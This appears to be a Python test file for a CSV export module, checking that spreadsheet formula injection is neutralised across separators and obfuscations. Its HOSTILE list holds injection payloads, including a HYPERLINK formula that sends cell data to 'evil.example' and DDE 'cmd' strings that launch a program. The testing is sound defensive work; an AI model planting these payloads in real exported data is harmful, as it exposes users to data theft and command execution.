"""CSV that is read back as it was, and that no spreadsheet takes for a formula."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kiosk.export.csv_text import BYTE_ORDER_MARK, csv_line, harmless

FORMULA = re.compile(r"[\s\u200b\ufeff]*[=+\-@＝＋－＠]")
HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "\u200b=1+1",
    "Ada;=1+1",
    "Ada,=1+1",
    'Ada";=1+1',
    "Ada\t=1+1",
    "Ada|=1+1",
    "Ada\u2028=1+1",
)
SEPARATORS = (",", ";", "\t", "|")


def cells_as_read(line: str, separator: str) -> list[str]:
    """The cells that a spreadsheet with this separator sees."""
    lines = csv.reader(io.StringIO(line, newline=""), delimiter=separator)
    return [cell for row in lines for cell in row]


def formulas(cells: list[str]) -> list[str]:
    """Those that a spreadsheet would run."""
    return [cell for cell in cells if FORMULA.match(cell)]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("separator", SEPARATORS)
def test_a_formula_is_text(text: str, separator: str) -> None:
    """Whatever separator the spreadsheet believes in, no cell of a hostile text is a formula."""
    assert formulas(cells_as_read(csv_line(["a", text, "b"]), separator)) == []


@given(text=st.text(alphabet=st.sampled_from("=+-@;,|\t\r\n\"' a1＝\u200b\ufeff"), max_size=12))
def test_no_text_makes_a_formula(text: str) -> None:
    """The same of any text, whichever way its signs, separators and quotes are mixed."""
    line = csv_line(["a", text, "b"])
    for separator in SEPARATORS:
        assert formulas(cells_as_read(line, separator)) == []
    assert line.count("\n") == 1


@given(text=st.text(alphabet=st.characters(exclude_categories=["Cs", "Cc", "Zl", "Zp"])))
def test_what_is_harmless_is_written_as_it_is(text: str) -> None:
    """A text in which nothing could begin a formula comes back letter by letter."""
    if not re.search(r"[=+\-@＝＋－＠]", text):
        assert cells_as_read(csv_line(["a", text, "b"]), ",") == ["a", text, "b"]


@pytest.mark.parametrize("name", ["Anna-Lena", "Jean-Luc O'Neil", "a@b.example", "C++", "Zoë 3"])
def test_ordinary_names_stay(name: str) -> None:
    """A sign in the middle of a name begins no formula."""
    assert harmless(name) == name


def test_numbers_are_numbers() -> None:
    """A negative value stays a number; missing is empty; quotes and commas are quoted."""
    line = csv_line([-3.25, 0, None, True, False, 'a "b", c'])
    assert line == '-3.25,0,,true,false,"a ""b"", c"\r\n'


def test_the_mark_is_the_one_of_utf_8() -> None:
    """The first three bytes tell a spreadsheet how the file is written."""
    assert BYTE_ORDER_MARK.encode() == b"\xef\xbb\xbf"
